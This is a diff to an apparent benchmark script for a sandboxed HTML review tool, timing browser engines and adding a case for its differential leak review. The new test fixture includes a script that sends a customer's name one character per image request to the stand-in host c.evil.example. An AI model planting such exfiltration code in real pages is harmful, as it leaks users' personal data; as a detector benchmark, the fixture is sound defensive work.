@@ -63,6 +63,16 @@ def block_5kb(i: int) -> BlockInput:
     return BlockInput(file=f"block-{i}.html", source=source, fields=["order.note", "order.items"], state=state)
 
 
+def leaky_block(split: bool) -> BlockInput:
+    """A card with a logo from a CDN (no data in it), or one that also sends its name one character per request."""
+    source = ('<p>Hi <b data-bind="customer.name"></b></p><img src="https://cdn.example.com/logo.png" alt="">'
+              '<button>OK</button>')
+    if split:
+        source += ("<script>[...String(flowUi.get('customer.name'))].forEach((c, i) => "
+                   "{ new Image().src = `https://c.evil.example/s/${i}/${c.charCodeAt(0)}.gif`; });</script>")
+    return BlockInput(file="leaky.html", source=source, state={"customer": {"name": "Ann Lee"}})
+
+
 async def one_block(engine, block: BlockInput, repeat: int) -> tuple[float, list[float]]:
     """Launch time and the review times of ``block`` on a running browser (one page)."""
     from flowui_sandbox.sandbox.review.browser import _work
@@ -72,8 +82,10 @@ async def one_block(engine, block: BlockInput, repeat: int) -> tuple[float, list
     lane = Lane(engine, context, time_limit=30, slots=1)
     out = await lane.run([_work(i, block) for i in range(repeat + 1)])
     total = time.monotonic() - started
-    seconds = [out[i].seconds for i in range(1, repeat + 1)]  # the first pays the page's first load
-    return total - sum(o.seconds for o in out.values()), seconds
+    # The first pays the page's first load; a block the differential review runs again pays its runs too.
+    seconds = [out[i].seconds + out[i].diff.get("seconds", 0) for i in range(1, repeat + 1)]
+    runs = [out[i].diff.get("runs", 1) for i in range(1, repeat + 1)]
+    return total - sum(o.seconds + o.diff.get("seconds", 0) for o in out.values()), seconds, runs
 
 
 async def main() -> None:
@@ -81,14 +93,24 @@ async def main() -> None:
     parser.add_argument("--engine", action="append")
     parser.add_argument("--blocks", type=int, default=50)
     parser.add_argument("--sample", type=int, default=4)
+    parser.add_argument("--only-one", action="store_true", help="figures 1 and 3 only (no batch)")
     args = parser.parse_args()
     engines = select_engines(args.engine)
     block = block_5kb(0)
     print(f"block: {len(block.source.encode())} bytes; settle window {SETTLE} s (part of every review)")
     print("\n1. one 5 KB block, browser running (median of 3), and the launch a batch pays once")
     for engine in engines:
-        launch_s, seconds = await one_block(engine, block, 3)
-        print(f"   {engine.name:<9} review {statistics.median(seconds):5.2f} s   (launch + page {launch_s:5.2f} s)")
+        launch_s, seconds, runs = await one_block(engine, block, 3)
+        print(f"   {engine.name:<9} review {statistics.median(seconds):5.2f} s   (launch + page {launch_s:5.2f} s; runs {runs})")
+
+    print("\n3. blocks the differential review runs again (median of 3): a benign one with an outside image,"
+          " a split leak (one character per request: attribution runs too)")
+    for name, leaky in (("outside image", leaky_block(False)), ("split leak", leaky_block(True))):
+        for engine in engines:
+            _, seconds, runs = await one_block(engine, leaky, 3)
+            print(f"   {name:<13} {engine.name:<9} {statistics.median(seconds):5.2f} s   (runs {runs})")
+    if args.only_one:
+        return
 
     print(f"\n2. batch of {args.blocks} blocks, engines side by side")
     blocks = [block_5kb(i) for i in range(args.blocks)]
